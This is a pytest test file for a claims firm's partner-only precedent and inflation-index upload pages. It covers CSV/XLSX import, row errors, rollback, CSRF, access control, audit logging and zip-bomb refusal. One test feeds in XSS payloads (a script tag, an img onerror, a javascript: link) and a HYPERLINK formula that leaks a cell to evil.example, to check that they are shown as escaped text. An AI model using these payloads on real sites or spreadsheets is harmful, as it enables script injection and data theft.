"""The partner pages: the active table with its sources, upload (CSV or XLSX), errors by row, rollback,
access control, the audit trail and hostile text shown as text."""
from __future__ import annotations

import io
import json
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from claims.extensions import db
from claims.models import AuditEvent, PrecedentSet
from claims.valuation import precedent_store as store
from claims.valuation.schema import INFLATION_COLUMNS
from tests.pages import parse
from tests.valuation.conftest import csv_bytes, curated_rows, xlsx_bytes

PAGE = "/staff/valuation/precedents"
SCRIPT = "<script>alert('x')</script>"


def upload(client, data: bytes, name: str, note: str = "", page: str = PAGE):
    return client.post(page, data={"upload-file": (io.BytesIO(data), name), "upload-note": note,
                                   "upload-submit": "y"}, content_type="multipart/form-data")


def rollback(client, version: int, page: str = PAGE, **extra):
    return client.post(page, data={"rollback-version": str(version), "rollback-submit": "y", **extra})


def active_versions() -> list[tuple[int, bool]]:
    db.session.expire_all()
    return [(s.version, s.active) for s in db.session.scalars(select(PrecedentSet).order_by(PrecedentSet.version))]


def events(prefix: str = "precedents.") -> list[AuditEvent]:
    db.session.expire_all()
    return [e for e in db.session.scalars(select(AuditEvent).order_by(AuditEvent.id)) if e.action.startswith(prefix)]


def table_text(page, table_id: str) -> str:
    return page.by_id(table_id).text


def test_the_page_separates_rows_used_for_valuation_from_context_and_shows_every_source(client, login_as, curated):
    login_as("partner")
    page = parse(client.get(PAGE))
    used, context = table_text(page, "used-rows"), table_text(page, "context-rows")
    assert "Halliday v Creation Consumer Finance Ltd" in used and "Gulati & Ors v MGN Ltd" not in used
    assert "Gulati & Ors v MGN Ltd" in context and "Lloyd v Google LLC" in context
    assert "Excluded as a duplicate of the Gulati row" in context
    hrefs = set(page.links())
    for row in curated_rows():
        for source in row["source"].split(";"):
            assert source.strip() in hrefs, source
    assert "Version 1" in page.text and "Active" in page.text


def test_a_csv_upload_becomes_the_active_version(client, login_as, curated):
    partner = login_as("partner")
    rows = curated_rows()
    rows[0]["notes"] = "Checked against the BAILII judgment."
    response = upload(client, csv_bytes(rows), "precedents 2026.csv", note="Halliday checked")
    assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == PAGE
    assert active_versions() == [(1, False), (2, True)]
    page = parse(client.get(PAGE))
    assert "Version 2 is now active (24 rows)." in page.text and "Checked against the BAILII judgment." in page.text
    [event] = [e for e in events() if e.action == "precedents.uploaded" and e.user_id == partner.id]
    assert event.details == {"version": 2, "rows": 24, "sha256": event.details["sha256"], "via": "upload",
                             "replaced_version": 1}
    assert "precedents 2026" not in json.dumps(event.details)  # no file names or contents in the audit trail


def test_an_xlsx_upload_with_numbers_typed_as_numbers_becomes_active(client, login_as, curated):
    login_as("partner")
    response = upload(client, xlsx_bytes(curated_rows()[:12]), "precedents.xlsx")
    assert response.status_code == 302
    assert active_versions() == [(1, False), (2, True)]
    assert db.session.scalar(select(PrecedentSet).where(PrecedentSet.active)).row_count == 12


def test_a_file_with_errors_on_rows_3_and_7_lists_both_and_changes_nothing(client, login_as, curated):
    login_as("partner")
    rows = curated_rows()
    rows[1]["breach_type"] = "hacking"
    rows[5]["year"] = "20021"
    response = upload(client, csv_bytes(rows), "bad.csv")
    assert response.status_code == 200
    problems = [e.text for e in parse(response).find_all("li") if e.text.startswith("Row ")]
    assert len(problems) == 2
    assert problems[0].startswith("Row 3, breach_type: “hacking” is not one of")
    assert problems[1].startswith("Row 7, year: “20021” is not a year")
    assert "The file was not imported" in parse(response).text and "Nothing was changed" in parse(response).text
    assert active_versions() == [(1, True)]
    [refused] = events("precedents.upload_refused")
    assert refused.details == {"problems": 2, "rows_with_problems": 2}


@pytest.mark.parametrize(("name", "data", "message"), [
    ("precedents.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xffPE\x00\x00", "is not a text file"),
    ("precedents.xlsx", b"<html><body><table><tr><td>case_name</td></tr></table></body></html>",
     "is named .xlsx but is not an Excel workbook"),
])
def test_a_file_whose_content_does_not_match_its_name_is_refused(client, login_as, curated, name, data, message):
    login_as("partner")
    response = upload(client, data, name)
    assert response.status_code == 200 and message in parse(response).by_id("problems").text
    assert active_versions() == [(1, True)]


@pytest.mark.parametrize("page", [PAGE, "/staff/valuation/inflation"])
def test_a_workbook_bomb_is_refused_before_openpyxl_opens_it(client, login_as, curated, page):
    from tests.sample_files import lie_about_size, make_xlsx_bomb

    login_as("partner")
    bomb = lie_about_size(make_xlsx_bomb(), "xl/worksheets/sheet1.xml")  # its directory says 1,000 bytes
    response = upload(client, bomb, "precedents.xlsx", page=page)
    assert response.status_code == 200
    assert "The file could not be checked: it unpacks to more than 50 MB." in parse(response).by_id("problems").text
    assert active_versions() == [(1, True)]


def test_uploading_without_a_file_asks_for_one(client, login_as, curated):
    login_as("partner")
    response = client.post(PAGE, data={"upload-submit": "y"}, content_type="multipart/form-data")
    assert parse(response).error_summary() == [("#upload-file", "Choose a .csv or .xlsx file to upload")]


def test_the_same_file_again_changes_nothing(client, login_as, curated):
    login_as("partner")
    response = upload(client, store.PRECEDENTS.data_file.read_bytes(), "precedents.csv")
    assert response.status_code == 302
    assert "same as the active version 1: nothing changed" in parse(client.get(PAGE)).text
    assert active_versions() == [(1, True)]


def test_rollback_makes_an_earlier_version_active_and_is_audited(client, login_as, curated):
    partner = login_as("partner")
    upload(client, csv_bytes(curated_rows()[:5]), "five.csv")
    page = parse(client.get(PAGE))
    buttons = [e.text for e in page.find_all("button") if e.attrs.get("name") == "rollback-submit"]
    assert buttons == ["Make version 1 active"]
    response = rollback(client, 1)
    assert response.status_code == 302 and active_versions() == [(1, True), (2, False)]
    [event] = events("precedents.activated")
    assert (event.user_id, event.entity_type, event.details) == (partner.id, "precedents_set",
                                                                 {"version": 1, "from_version": 2})
    old = parse(client.get(PAGE + "?version=2"))
    assert "Not active" in old.text and "Make version 2 active" in old.text
    assert client.get(PAGE + "?version=99").status_code == 404


def test_rollback_needs_the_csrf_token(make_app, make_user, curated):
    from tests.conftest import PASSWORD

    app = make_app(WTF_CSRF_ENABLED=True)
    client = app.test_client()
    user = make_user("partner")
    token = parse(client.get("/staff/sign-in")).csrf_token()
    client.post("/staff/sign-in", data={"email": user.email, "password": PASSWORD, "csrf_token": token})
    assert client.post(PAGE, data={"upload-submit": "y"}).status_code == 400
    assert rollback(client, 1).status_code == 400
    page = parse(client.get(PAGE))
    tokens = [e.attrs["value"] for e in page.find_all("input") if e.attrs.get("name", "").endswith("csrf_token")]
    assert tokens and rollback(client, 1, **{"rollback-csrf_token": tokens[0]}).status_code == 302


@pytest.mark.parametrize("role", ["solicitor", "admin"])
@pytest.mark.parametrize("path", [PAGE, "/staff/valuation/inflation", "/staff/valuation/precedents.xlsx"])
def test_only_partners_reach_the_pages(client, login_as, curated, role, path):
    login_as(role)
    assert client.get(path).status_code == 403
    assert upload(client, csv_bytes(curated_rows()), "x.csv", page=path).status_code in (403, 405)
    assert rollback(client, 1, page=path).status_code in (403, 405)
    assert active_versions() == [(1, True)]


def test_anonymous_visitors_are_sent_to_sign_in(client, curated):
    for response in (client.get(PAGE), rollback(client, 1)):
        assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/staff/sign-in"


def test_hostile_text_is_shown_as_text(client, login_as, curated):
    login_as("partner")
    rows = curated_rows()[:2]
    rows[0].update(case_name=f"Smith {SCRIPT}", notes='"><img src=x onerror=alert(1)>')
    rows[1].update(origin="firm", source="javascript:alert(1); <b>file note</b>")
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    response = upload(client, xlsx_bytes(rows, formulas={(1, "summary"): formula}), "hostile.xlsx", note=SCRIPT)
    assert response.status_code == 302
    html = client.get(PAGE).get_data(as_text=True)
    page = parse(client.get(PAGE))
    assert SCRIPT not in html and "<img src=x" not in html and "<b>file note</b>" not in html
    assert f"Smith {SCRIPT}" in page.text and '"><img src=x onerror=alert(1)>' in page.text
    assert formula in page.text and "javascript:alert(1)" in page.text
    assert not [href for href in page.links() if href.startswith("javascript")]
    assert all(script.attrs.get("src") for script in page.find_all("script"))  # only the app's own script file


def test_a_version_downloads_as_a_workbook_of_text(client, login_as, curated):
    login_as("partner")
    rows = curated_rows()[:1]
    rows[0]["notes"] = "=1+1"
    upload(client, csv_bytes(rows), "formula.csv")
    response = client.get("/staff/valuation/precedents.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [c.value for c in sheet[1]]
    notes = sheet.cell(row=2, column=header.index("notes") + 1)
    assert notes.value == "=1+1" and notes.data_type == "s"
    first = client.get("/staff/valuation/precedents.xlsx?version=1")
    assert load_workbook(io.BytesIO(first.data)).active.max_row == 25


def test_the_inflation_index_is_uploaded_and_rolled_back_the_same_way(client, login_as, curated):
    login_as("partner")
    page = "/staff/valuation/inflation"
    assert "138.4" in parse(client.get(page)).by_id("index-rows").text
    rows = curated_rows(store.INFLATION)
    rows.append({"year": "2026", "cpi_index_2015_100": "141.2", "source": "ONS D7BT, April 2026 release"})
    assert upload(client, csv_bytes(rows, INFLATION_COLUMNS), "cpi.csv", page=page).status_code == 302
    assert "141.2" in parse(client.get(page)).by_id("index-rows").text
    rows.append(dict(rows[-1]))
    bad = upload(client, csv_bytes(rows, INFLATION_COLUMNS), "cpi.csv", page=page)
    assert "Row 24, year: repeats row 23" in parse(bad).by_id("problems").text
    assert rollback(client, 1, page=page).status_code == 302
    assert "141.2" not in parse(client.get(page)).by_id("index-rows").text
    assert [e.action for e in events("inflation.")] == ["inflation.uploaded", "inflation.uploaded",
                                                      "inflation.upload_refused", "inflation.activated"]
